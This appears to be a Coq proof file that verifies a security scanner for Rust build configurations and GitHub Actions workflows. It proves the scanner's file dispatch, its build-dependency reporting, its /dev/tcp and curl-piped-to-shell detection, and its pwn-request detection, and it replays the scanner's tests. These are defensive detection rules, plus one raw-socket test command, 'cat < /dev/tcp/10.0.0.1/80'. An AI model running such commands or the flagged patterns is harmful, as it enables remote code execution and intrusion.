  apply (proj2 (compiler_override_is_red wrapperConfig (lit ".cargo/config.toml") eq_refl)).
  exists wrapperLine.
  split; [vm_compute; do 2 right; left; reflexivity | reflexivity].
Defined.

Module RoutingFacts.

Lemma endsWith_differs : forall p a b,
  endsWith p a = true ->
  startsWith (rev a) (rev b) = false -> startsWith (rev b) (rev a) = false ->
  endsWith p b = false.
Proof.
  intros p a b Ha H1 H2. destruct (endsWith p b) eqn:E; [|reflexivity].
  destruct (endsWith_exclusive p a b Ha E); congruence.
Qed.

Lemma includes_app : forall pre s p, includes s p = true -> includes (pre ++ s) p = true.
Proof.
  induction pre as [|c pre IH]; intros s p H; [exact H|].
  simpl. rewrite (IH s p H). apply orb_true_r.
Qed.

Lemma endsWith_includes : forall s p, endsWith s p = true -> includes s p = true.
Proof.
  intros s p H. apply endsWith_split in H. destruct H as [t Ht]. subst s.
  apply includes_app. apply startsWith_includes.
  pose proof (startsWith_app p []) as Hs. rewrite app_nil_r in Hs. exact Hs.
Qed.

Lemma includes_suffix : forall s p q,
  includes q p = true -> endsWith s q = true -> includes s p = true.
Proof.
  intros s p q Hq Hs. apply endsWith_split in Hs. destruct Hs as [t Ht]. subst s.
  apply includes_app. exact Hq.
Qed.

End RoutingFacts.
Import RoutingFacts.

(** The dispatch of [scanFile] agrees with the scanners' own [appliesTo]: a
    path the Cargo scanner applies to goes to it; a path the GitHub Actions
    scanner applies to goes to it, unless the path holds [.cargo/config], in
    which case the Cargo scanner gets the workflow; and the workflow files of
    a file tree are paths the GitHub Actions scanner applies to. *)
Theorem dispatch_agrees_with_appliesTo : forall p,
  (Rust.appliesTo p = true -> getScannerType p = Some rust)
  /\ (GitHub.appliesTo p = true ->
      getScannerType p = Some (if includes p (lit ".cargo/config") then rust else github))
  /\ (forall fileTree, In p (getWorkflowFiles fileTree) -> GitHub.appliesTo p = true).
Proof.
  intro p. split; [|split].
  - unfold Rust.appliesTo. intro H.
    apply orb_true_iff in H. destruct H as [H | H]; [apply orb_true_iff in H; destruct H as [H | H]|].
    + unfold getScannerType.
      rewrite (endsWith_differs p _ (lit "tasks.json") H),
        (endsWith_differs p _ (lit "package.json") H),
        (endsWith_differs p _ (lit "setup.py") H),
        (endsWith_differs p _ (lit "pyproject.toml") H) by reflexivity.
      rewrite H, andb_false_r. reflexivity.
    + unfold getScannerType.
      rewrite (endsWith_differs p _ (lit "tasks.json") H),
        (endsWith_differs p _ (lit "package.json") H),
        (endsWith_differs p _ (lit "setup.py") H),
        (endsWith_differs p _ (lit "pyproject.toml") H) by reflexivity.
      rewrite (includes_suffix p (lit ".cargo/config") (lit ".cargo/config.toml") eq_refl H).
      rewrite andb_false_r, orb_true_r. reflexivity.
    + unfold getScannerType.
      rewrite (endsWith_differs p _ (lit "tasks.json") H),
        (endsWith_differs p _ (lit "package.json") H),
        (endsWith_differs p _ (lit "setup.py") H),
        (endsWith_differs p _ (lit "pyproject.toml") H) by reflexivity.
      rewrite (endsWith_includes p _ H).
      rewrite andb_false_r, orb_true_r. reflexivity.
  - unfold GitHub.appliesTo. intro H. apply andb_true_iff in H. destruct H as [Hw He].
    assert (Hno : forall q,
              startsWith (rev (lit ".yml")) (rev q) = false ->
              startsWith (rev q) (rev (lit ".yml")) = false ->
              startsWith (rev (lit ".yaml")) (rev q) = false ->
              startsWith (rev q) (rev (lit ".yaml")) = false ->
              endsWith p q = false).
    { intros q H1 H2 H3 H4. apply orb_true_iff in He. destruct He as [He | He].
      - exact (endsWith_differs p _ q He H1 H2).
      - exact (endsWith_differs p _ q He H3 H4). }
    unfold getScannerType.
    rewrite (Hno (lit "tasks.json")), (Hno (lit "package.json")), (Hno (lit "setup.py")),
      (Hno (lit "pyproject.toml")), (Hno (lit "Cargo.toml")) by reflexivity.
    rewrite andb_false_r. cbn [orb]. rewrite Hw, He.
    destruct (includes p (lit ".cargo/config")); reflexivity.
  - intros tree H. apply workflow_In in H. destruct H as [_ [Hs He]].
    unfold GitHub.appliesTo. rewrite (startsWith_includes _ _ Hs).
    apply orb_true_iff in He. rewrite He. reflexivity.
Qed.

Lemma dispatch_agrees_with_appliesTo_witness :
  getScannerType (lit ".github/workflows/.cargo/config.yml") = Some rust.
Proof.
  apply (proj1 (proj2 (dispatch_agrees_with_appliesTo
                         (lit ".github/workflows/.cargo/config.yml")))).
  reflexivity.
Defined.

Module CargoTomlFacts.
Import Rust RustFacts.

Lemma extends_nil : forall st, extends [] st st.
Proof. intro st. split; [reflexivity | symmetry; apply app_nil_r]. Qed.

Lemma extends_push : forall st f, extends [f] st (push st f).
Proof. intros st f. split; reflexivity. Qed.

Lemma extends_trans : forall x y a b c,
  extends x a b -> extends y b c -> extends (x ++ y) a c.
Proof.
  intros x y a b c [F1 A1] [F2 A2]. split; [congruence|].
  rewrite A2, A1, app_assoc. reflexivity.
Qed.

Lemma checkBuildScript_extends : forall path index t st,
  exists added, extends added st (checkBuildScript path index t st)
                /\ Forall otherText added.
Proof.
  intros path index t st. unfold checkBuildScript.
  destruct (startsWith t (lit "build") && includes t (lit "="));
    [|exists []; split; [apply extends_nil | constructor]].
  destruct (extractValue t) as [buildScript|];
    [|exists []; split; [apply extends_nil | constructor]].
  destruct (negb (length buildScript =? 0) && negb (str_eqb buildScript (lit "build.rs")));
    [|exists []; split; [apply extends_nil | constructor]].
  eexists. split; [apply extends_push|]. constructor; [|constructor].
  unfold otherText. cbn [description lineFinding]. intro H. vm_compute in H. discriminate H.
Qed.

Lemma checkSuspiciousDependency_extends : forall path index t st,
  exists added, extends added st (checkSuspiciousDependency path index t st)
                /\ Forall otherText added.
Proof.
  intros path index t st. unfold checkSuspiciousDependency.
  destruct (isSuspiciousDependency t);
    [|exists []; split; [apply extends_nil | constructor]].
  eexists. split; [apply extends_push|]. constructor; [|constructor].
  unfold otherText. cbn [description lineFinding]. discriminate.
Qed.

Lemma checkGitDependency_extends : forall path index t st,
  exists added, extends added st (checkGitDependency path index t st)
                /\ Forall otherText added.
Proof.
  intros path index t st. unfold checkGitDependency.
  destruct (hasSuspiciousGitDependency t);
    [|exists []; split; [apply extends_nil | constructor]].
  eexists. split; [apply extends_push|]. constructor; [|constructor].
  unfold otherText. cbn [description lineFinding]. discriminate.
Qed.

Lemma checkBuildDependencies_extends : forall lines path index line st,
  extends (if inBuildDependencies st && isEntryLine line && previousLineIsHeader lines index
           then [lineFinding YELLOW path (index + 1) buildDependenciesText
                   (lit "[build-dependencies]")]
           else [])
          st (checkBuildDependencies lines path index (trim line) st).
Proof.
  intros lines path index line st. unfold checkBuildDependencies, isEntryLine.
  rewrite <- !andb_assoc.
  destruct (inBuildDependencies st); cbn [andb]; [|apply extends_nil].
  destruct (negb (length (trim line) =? 0)); cbn [andb]; [|apply extends_nil].
  destruct (negb (startsWith (trim line) (lit "["))); cbn [andb]; [|apply extends_nil].
  destruct (negb (startsWith (trim line) (lit "#"))); cbn [andb]; [|apply extends_nil].
  destruct (previousLineIsHeader lines index); [apply extends_push | apply extends_nil].
Qed.

(** One line of [Cargo.toml]: the flag it leaves, and the findings it adds. *)
Lemma cargoTomlLine_spec : forall lines path st index line,
  let flag := if startsWith (trim line) (lit "[")
              then includes (trim line) (lit "[build-dependencies]")
              else inBuildDependencies st in
  exists others,
    extends ((if flag && isEntryLine line && previousLineIsHeader lines index
              then [lineFinding YELLOW path (index + 1) buildDependenciesText
                      (lit "[build-dependencies]")]
              else []) ++ others)
            {| findings := findings st; inBuildDependencies := flag;
               inBuildSection := inBuildSection st |}
            (cargoTomlLine lines path st index line)
    /\ Forall otherText others.
Proof.
  intros lines path st index line flag. unfold cargoTomlLine. cbv zeta.
  set (s1 := trackSection (trim line) st).
  assert (H1 : inBuildDependencies s1 = flag /\ findings s1 = findings st).
  { unfold s1, trackSection, flag. destruct (startsWith (trim line) (lit "["));
      split; reflexivity. }
  destruct H1 as [Hflag Hfind].
  pose proof (checkBuildDependencies_extends lines path index line s1) as H2.
  rewrite Hflag in H2.
  set (s2 := checkBuildDependencies lines path index (trim line) s1) in *.
  destruct (checkBuildScript_extends path index (trim line) s2) as [a3 [H3 O3]].
  set (s3 := checkBuildScript path index (trim line) s2) in *.
  destruct (checkSuspiciousDependency_extends path index (trim line) s3) as [a4 [H4 O4]].
  set (s4 := checkSuspiciousDependency path index (trim line) s3) in *.
  destruct (checkGitDependency_extends path index (trim line) s4) as [a5 [H5 O5]].
  exists (a3 ++ a4 ++ a5). split.
  - pose proof (extends_trans _ _ _ _ _ H2 (extends_trans _ _ _ _ _ H3
                  (extends_trans _ _ _ _ _ H4 H5))) as [Hf Ha].
    split; cbn [inBuildDependencies findings]; [congruence|].
    rewrite Ha, Hfind. reflexivity.
  - apply Forall_app. split; [exact O3|]. apply Forall_app. split; assumption.
Qed.

Lemma previousLineIsHeader_iff : forall lines k,
  previousLineIsHeader lines k = true
  <-> exists previous, 0 < k /\ nth_error lines (k - 1) = Some previous
                       /\ trim previous = lit "[build-dependencies]".
Proof.
  intros lines k. unfold previousLineIsHeader. destruct k as [|k].
  - split; [discriminate | intros [p [H _]]; lia].
  - replace (S k - 1) with k by lia. destruct (nth_error lines k) as [p|].
    + rewrite str_eqb_eq. split.
      * intro H. exists p. split; [lia|]. split; [reflexivity | exact H].
      * intros [q [_ [Hq Ht]]]. inversion Hq; subst. exact Ht.
    + split; [discriminate | intros [q [_ [Hq _]]]; discriminate].
Qed.

Lemma cargoTomlLine_afterLines : forall lines path st k line,
  nth_error lines k = Some line ->
  afterLines lines k st ->
  afterLines lines (S k) (cargoTomlLine lines path st k line).
Proof.
  intros lines path st k line Hk [Hflag Hrep].
  destruct (cargoTomlLine_spec lines path st k line) as [others [[Hf Ha] Ho]].
  cbn [inBuildDependencies findings] in Hf, Ha.
  set (flag := if startsWith (trim line) (lit "[")
               then includes (trim line) (lit "[build-dependencies]")
               else inBuildDependencies st) in *.
  split.
  - intros previous _ Hp Ht. replace (S k - 1) with k in Hp by lia.
    assert (previous = line) by congruence. subst previous.
    rewrite Hf. unfold flag. rewrite Ht. reflexivity.
  - intro n. rewrite Ha. unfold reportedAt. split.
    + intros [f [Hin [Hd Hn]]].
      apply in_app_or in Hin. destruct Hin as [Hin | Hin].
      * assert (Hr : reportedAt (findings st) buildDependenciesText n)
          by (exists f; repeat split; assumption).
        apply Hrep in Hr. destruct Hr as [Hle Hfol]. split; [lia | exact Hfol].
      * apply in_app_or in Hin. destruct Hin as [Hin | Hin].
        -- destruct (flag && isEntryLine line && previousLineIsHeader lines k) eqn:E;
             [|destruct Hin].
           destruct Hin as [Hin | []]. subst f. cbn [lineNumber lineFinding] in Hn.
           inversion Hn; subst n. split; [lia|].
           apply andb_true_iff in E. destruct E as [E Eprev].
           apply andb_true_iff in E. destruct E as [_ Eentry].
           apply previousLineIsHeader_iff in Eprev.
           destruct Eprev as [previous [Hpos [Hp Ht]]].
           exists previous, line. split; [lia|].
           replace (k + 1 - 2) with (k - 1) by lia. replace (k + 1 - 1) with k by lia.
           repeat split; assumption.
        -- rewrite Forall_forall in Ho. exfalso. exact (Ho f Hin Hd).
    + intros [Hle Hfol]. destruct (Nat.eq_dec n (S k)) as [Heq | Hne].
      * subst n. destruct Hfol as [header [line' [H2 [Hh [Hl [Ht He]]]]]].
        replace (S k - 1) with k in Hl by lia. replace (S k - 2) with (k - 1) in Hh by lia.
        assert (line' = line) by congruence. subst line'.
        assert (Hprev : previousLineIsHeader lines k = true).
        { apply previousLineIsHeader_iff. exists header. split; [lia|]. split; assumption. }
        assert (Hfl : flag = true).
        { unfold flag. unfold isEntryLine in He.
          apply andb_true_iff in He. destruct He as [He _].
          apply andb_true_iff in He. destruct He as [_ He].
          apply negb_true_iff in He. rewrite He.
          apply (Hflag header); [lia | exact Hh | exact Ht]. }
        rewrite Hfl, He, Hprev. cbn [andb].
        eexists. split; [apply in_or_app; right; left; reflexivity|].
        split; [reflexivity|]. cbn [lineNumber lineFinding]. f_equal. lia.
      * assert (Hr : reportedAt (findings st) buildDependenciesText n)
          by (apply Hrep; split; [lia | exact Hfol]).
        destruct Hr as [f [Hin Hrest]]. exists f. split; [apply in_or_app; left; exact Hin|].
        exact Hrest.
Qed.

Lemma fold_cargoTomlLine_afterLines : forall lines path rest pre st,
  lines = pre ++ rest ->
  afterLines lines (length pre) st ->
  afterLines lines (length lines)
    (fold_left (fun st il => cargoTomlLine lines path st (fst il) (snd il))
               (combine (seq (length pre) (length rest)) rest) st).
Proof.
  intros lines path. induction rest as [|line rest IH]; intros pre st Hl Hst.
  - rewrite app_nil_r in Hl. subst pre. exact Hst.
  - cbn [length seq combine fold_left fst snd].
    assert (Hk : nth_error lines (length pre) = Some line).
    { rewrite Hl, nth_error_app2 by lia. rewrite Nat.sub_diag. reflexivity. }
    specialize (IH (pre ++ [line]) (cargoTomlLine lines path st (length pre) line)).
    rewrite length_app in IH. cbn [length] in IH.
    replace (length pre + 1) with (S (length pre)) in IH by lia.
    apply IH.
    + rewrite <- app_assoc. exact Hl.
    + apply cargoTomlLine_afterLines; assumption.
Qed.

End CargoTomlFacts.
Import CargoTomlFacts.

(** The finding about build dependencies is reported for the entry line
    that comes right after the header [[build-dependencies]], and for no
    other line: a header followed by an empty line or by a comment is not
    reported. *)
Theorem build_dependencies_reported_after_header : forall content path n,
  endsWith path (lit "Cargo.toml") = true ->
  (reportedAt (Rust.scanRust content path) buildDependenciesText n
   <-> followsBuildDependencies (splitLines content) n).
Proof.
  intros content path n Hpath. unfold Rust.scanRust, Rust.scan. rewrite Hpath.
  unfold Rust.scanCargoToml.
  pose proof (fold_cargoTomlLine_afterLines (splitLines content) path (splitLines content) []
                {| Rust.findings := []; Rust.inBuildDependencies := false;
                   Rust.inBuildSection := false |} eq_refl) as H.
  cbn [length] in H. fold (Rust.indexed (splitLines content)) in H.
  destruct H as [_ Hrep].
  { split.
    - intros previous Hpos. lia.
    - intro n'. split.
      + intros [f [[] _]].
      + intros [Hle [header [line [H2 _]]]]. lia. }
  set (st := fold_left _ (Rust.indexed (splitLines content)) _) in *.
  assert (Hsame : reportedAt (if includes content (lit "proc-macro = true")
                              then Rust.findings st ++ [Rust.procMacroFinding path]
                              else Rust.findings st) buildDependenciesText n
                  <-> reportedAt (Rust.findings st) buildDependenciesText n).
  { destruct (includes content (lit "proc-macro = true")); [|tauto].
    unfold reportedAt. split.
    - intros [f [Hin [Hd Hn]]]. apply in_app_or in Hin.
      destruct Hin as [Hin | [Hin | []]]; [exists f; repeat split; assumption|].
      subst f. discriminate Hn.
    - intros [f [Hin Hrest]]. exists f. split; [apply in_or_app; left; exact Hin | exact Hrest]. }
  rewrite Hsame, Hrep. split; [tauto|]. intro Hfol. split; [|exact Hfol].
  destruct Hfol as [header [line [H2 [_ [Hl _]]]]].
  assert (n - 1 < length (splitLines content)) by (apply nth_error_Some; congruence). lia.
Qed.

Lemma build_dependencies_reported_after_header_witness :
  reportedAt (Rust.scanRust buildDepsToml (lit "Cargo.toml")) buildDependenciesText 7.
Proof.
  apply (build_dependencies_reported_after_header buildDepsToml (lit "Cargo.toml") 7 eq_refl).
  exists (lit "[build-dependencies]"), (lit "cc = " ++ quoted (lit "1.0")).
  repeat split; try reflexivity. lia.
Defined.

(** ** Dangerous commands *)

Module CommandsFacts.
Import Regex Commands RegexFacts.

Lemma test_exec : forall ic r s,
  test ic r s = true ->
  exists pre s' rest,
    s = pre ++ s'
    /\ execAt ic r (match rev pre with c :: _ => Some c | [] => None end) s' = Some rest.
Proof.
  intros ic r s H. unfold test in H.
  destruct (search ic r None s) as [[n rest]|] eqn:E; [|discriminate].
  destruct (search_exec ic r s None n rest E) as [pre [s' [Hs [_ He]]]].
  exists pre, s', rest. split; assumption.
Qed.

Lemma slash_only : forall x, unitMatches true 47 x = true -> x = 47%N.
Proof.
  intros x H. unfold unitMatches, canonicalize in H. cbn [N.leb N.compare andb] in H.
  change (N.leb 97 47 && N.leb 47 122) with false in H. cbv iota in H.
  destruct (N.leb 97 x && N.leb x 122) eqn:E.
  - apply andb_true_iff in E. destruct E as [E1 E2]. apply N.leb_le in E1, E2.
    apply N.eqb_eq in H. lia.
  - apply N.eqb_eq in H. symmetry. exact H.
Qed.

End CommandsFacts.
Import CommandsFacts.

(** The command [/dev/tcp] is found only where a letter, a digit or an
    underscore stands right before its slash: the pattern asks for a word
    boundary there, and the slash is no word character. After a blank or at
    the start of the script it is not found. *)
Theorem dev_tcp_needs_word_character_before : forall script,
  Commands.findDangerousCommand script = Some (lit "/dev/tcp") ->
  exists before c after,
    toLowerCase script = before ++ c :: 47%N :: after
    /\ Regex.isWordChar c = true.
Proof.
  intros script H. unfold Commands.findDangerousCommand in H.
  apply find_some in H. destruct H as [_ H].
  destruct (test_exec _ _ _ H) as [pre [s' [rest [Hs He]]]].
  unfold Regex.execAt, Commands.commandPattern in He.
  change (Regex.Seqs [Regex.WordBoundary; Regex.Str (lit "/dev/tcp"); Regex.WordBoundary])
    with (Regex.Seq Regex.WordBoundary
            (Regex.Seq (Regex.Seq (Regex.Chr 47) (Regex.Str (lit "dev/tcp")))
               (Regex.Seq Regex.WordBoundary Regex.Empty))) in He.
  cbn [Regex.matchAt] in He.
  destruct (Regex.atWordBoundary _ s') eqn:Eb; [|discriminate].
  destruct s' as [|x s'']; [discriminate|].
  destruct (Regex.unitMatches true 47 x) eqn:Ex; [|discriminate].
  apply slash_only in Ex. subst x. clear He.
  unfold Regex.atWordBoundary in Eb.
  change (Regex.isWordChar 47) with false in Eb. rewrite xorb_false_r in Eb.
  destruct (rev pre) as [|c t] eqn:Er; [discriminate|].
  exists (rev t), c, s''. split; [|exact Eb].
  rewrite Hs. rewrite <- (rev_involutive pre), Er. cbn [rev].
  rewrite <- app_assoc. reflexivity.
Qed.

Lemma dev_tcp_needs_word_character_before_witness :
  exists before c after,
    toLowerCase (lit "tmp/dev/tcp") = before ++ c :: 47%N :: after
    /\ Regex.isWordChar c = true.
Proof. apply dev_tcp_needs_word_character_before. vm_compute. reflexivity. Defined.

Example dev_tcp_after_blank :
  Commands.findDangerousCommand (lit "cat < /dev/tcp/10.0.0.1/80") = None.
Proof. vm_compute. reflexivity. Qed.

(** ** Workflows *)

Module GitHubFlow.
Import GitHub GitHubFacts.

Lemma scanLine_curl : forall lines path st index line,
  pipesCurlToShell line = true ->
  In (curlPipeFinding path (index + 1) line) (findings (scanLine lines path st index line)).
Proof.
  intros lines path st index line H. unfold scanLine. cbv zeta.
  unfold checkCurlPipe at 1. unfold pipesCurlToShell in H. rewrite H.
  unfold push. cbn [findings]. apply in_or_app. right. left. reflexivity.
Qed.

(** The findings of a line stay in the state to the end. *)
Lemma scanLines_keeps : forall path before line tail f,
  (forall st, In f (findings (scanLine (before ++ line :: tail) path st (length before) line))) ->
  In f (findings (scanLines (before ++ line :: tail) path)).
Proof.
  intros path before line tail f H. unfold scanLines, indexed.
  rewrite fold_indexed_split.
  set (lines := before ++ line :: tail) in *.
  change (fun st il => scanLine lines path st (fst il) (snd il)) with (lineStep lines path).
  set (st1 := fold_left (lineStep lines path) (combine (seq 0 (length before)) before)
                        initialState).
  cbn beta. cbn [fst snd].
  destruct (scanRun_spec lines path (combine (seq (S (length before)) (length tail)) tail)
              (scanLine lines path st1 (length before) line))
    as [_ [_ [_ [added [HF _]]]]].
  rewrite HF. apply in_or_app. left. apply H.
Qed.

Lemma scan_keeps : forall content path f,
  In f (findings (scanLines (splitLines content) path)) -> In f (scan content path).
Proof.
  intros content path f H. unfold scan. cbv zeta.
  repeat match goal with
         | |- context [if ?c then _ else _] => destruct c
         end;
    repeat (apply in_or_app; left); exact H.
Qed.

End GitHubFlow.
Import GitHubFlow.

(** A workflow line in which [curl] is piped to [bash] or [sh] is always
    reported, as a RED finding with the number of the line, and the findings
    of the workflow are RED overall. *)
Theorem curl_pipe_is_reported : forall content path i line,
  nth_error (splitLines content) i = Some line ->
  pipesCurlToShell line = true ->
  In (curlPipeFinding path (i + 1) line) (GitHub.scanGitHubActions content path)
  /\ determineOverallRisk (GitHub.scanGitHubActions content path) = RED.
Proof.
  intros content path i line Hi Hcurl.
  assert (Hin : In (curlPipeFinding path (i + 1) line)
                   (GitHub.scanGitHubActions content path)).
  { unfold GitHub.scanGitHubActions. apply scan_keeps.
    destruct (nth_error_split _ _ Hi) as [before [tail [Hl Hlen]]].
    rewrite Hl, <- Hlen. apply scanLines_keeps. intro st. apply scanLine_curl. exact Hcurl. }
  split; [exact Hin|].
  destruct (RiskClassifierFacts.determineOverallRisk_cases
              (GitHub.scanGitHubActions content path))
    as [[Hr _] | [[_ [Hno _]] | [_ Hg]]]; [exact Hr | |].
  - exfalso. exact (Hno _ Hin eq_refl).
  - specialize (Hg _ Hin). discriminate Hg.
Qed.

Lemma curl_pipe_is_reported_witness :
  determineOverallRisk (GitHub.scanGitHubActions curlWorkflow workflowPath) = RED.
Proof.
  apply (proj2 (curl_pipe_is_reported curlWorkflow workflowPath 6 curlStep eq_refl eq_refl)).
Defined.

(** The pwn-request finding is reported only for a workflow in which some
    line mentions [pull_request_target] and some line mentions
    [actions/checkout]. *)
Theorem pwn_request_needs_trigger_and_checkout : forall content path,
  In (GitHub.pwnRequestFinding path) (GitHub.scanGitHubActions content path) ->
  existsb (mentions (lit "pull_request_target")) (splitLines content) = true
  /\ existsb (mentions (lit "actions/checkout")) (splitLines content) = true.
Proof.
  intros content path Hin. unfold GitHub.scanGitHubActions, GitHub.scan in Hin.
  cbv zeta in Hin.
  destruct (GitHubFacts.scanRun_spec (splitLines content) path
              (GitHub.indexed (splitLines content)) GitHub.initialState)
    as [HP [HC [_ [perLine [HF HL]]]]].
  unfold GitHub.indexed in HP at 2, HC at 2.
  rewrite GitHubFacts.existsb_combine_seq in HP, HC.
  cbn [GitHub.initialState GitHub.hasPullRequestTarget GitHub.hasCheckout orb] in HP, HC.
  cbn [GitHub.initialState GitHub.findings app] in HF.
  change (fold_left (lineStep (splitLines content) path)
                    (GitHub.indexed (splitLines content)) GitHub.initialState)
    with (GitHub.scanLines (splitLines content) path) in HP, HC, HF.
  set (st := GitHub.scanLines (splitLines content) path) in *.
  assert (Hno : ~ In (GitHub.pwnRequestFinding path) (GitHub.findings st)).
  { rewrite HF. intro H. rewrite Forall_forall in HL. apply (HL _ H). reflexivity. }
  rewrite <- HP, <- HC.
  destruct (GitHub.hasPullRequestTarget st && GitHub.hasCheckout st) eqn:E.
  - apply andb_true_iff in E. exact E.
  - exfalso.
    destruct (GitHub.hasWorkflowRun st && includes content (lit "github.event.workflow_run")).
    + apply in_app_or in Hin. destruct Hin as [Hin | [Hin | []]]; [exact (Hno Hin)|].
      discriminate Hin.
    + exact (Hno Hin).
Qed.

Lemma pwn_request_needs_trigger_and_checkout_witness :
  existsb (mentions (lit "pull_request_target")) (splitLines pwnWorkflow) = true
  /\ existsb (mentions (lit "actions/checkout")) (splitLines pwnWorkflow) = true.
Proof.
  apply (pwn_request_needs_trigger_and_checkout pwnWorkflow workflowPath).
  vm_compute. right. left. reflexivity.
Defined.

(** ** The repository's tests of the Cargo scanner, replayed *)

Module CargoTestReplay.

Example cargo_appliesTo :
  Rust.appliesTo (lit "Cargo.toml") = true
  /\ Rust.appliesTo (lit ".cargo/config.toml") = true
  /\ Rust.appliesTo (lit ".cargo/config") = true
  /\ Rust.appliesTo (lit "package.json") = false
  /\ Rust.appliesTo (lit "main.rs") = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

Example build_dependencies_section :
  outline (Rust.scanRust buildDepsToml (lit "Cargo.toml"))
  = [(YELLOW, buildDependenciesText, Some 7)].
Proof. vm_compute. reflexivity. Qed.

Example custom_build_script :
  outline (Rust.scanRust customBuildToml (lit "Cargo.toml"))
  = [(YELLOW, lit "Custom build script: custom-build.rs", Some 5)]
  /\ Rust.scanRust defaultBuildToml (lit "Cargo.toml") = [].
Proof. split; vm_compute; reflexivity. Qed.

Example compiler_overrides :
  outline (Rust.scanRust wrapperConfig (lit ".cargo/config.toml"))
  = [(RED, lit "Rust compiler override detected - can execute arbitrary code", Some 3)]
  /\ outline (Rust.scanRust rustcConfig (lit ".cargo/config.toml"))
     = [(RED, lit "Rust compiler override detected - can execute arbitrary code", Some 3)].
Proof. split; vm_compute; reflexivity. Qed.

Example custom_linker_and_runner :
  outline (Rust.scanRust linkerConfig (lit ".cargo/config.toml"))
  = [(YELLOW, lit "Custom linker specified", Some 3);
     (YELLOW, lit "Target-specific build configuration detected", None)]
  /\ outline (Rust.scanRust runnerConfig (lit ".cargo/config.toml"))
     = [(YELLOW, lit "Custom runner specified - may execute arbitrary commands", Some 3)].
Proof. split; vm_compute; reflexivity. Qed.

Example git_dependencies :
  outline (Rust.scanRust evilGitToml (lit "Cargo.toml"))
  = [(YELLOW, lit "Git dependency from non-standard source", Some 3)]
  /\ Rust.scanRust githubGitToml (lit "Cargo.toml") = [].
Proof. split; vm_compute; reflexivity. Qed.

Example path_traversal :
  outline (Rust.scanRust traversalToml (lit "Cargo.toml"))
  = [(YELLOW, lit "Suspicious dependency pattern detected", Some 3)].
Proof. vm_compute. reflexivity. Qed.

Example proc_macro_and_registry :
  outline (Rust.scanRust procMacroToml (lit "Cargo.toml"))
  = [(YELLOW, lit "Procedural macro crate - executes code at compile time", None)]
  /\ outline (Rust.scanRust sourceConfig (lit ".cargo/config.toml"))
     = [(YELLOW, lit "Custom registry source detected - potential supply chain risk", Some 2)].
Proof. split; vm_compute; reflexivity. Qed.

Example safe_cargo_toml : Rust.scanRust safeToml (lit "Cargo.toml") = [].
Proof. vm_compute. reflexivity. Qed.

End CargoTestReplay.
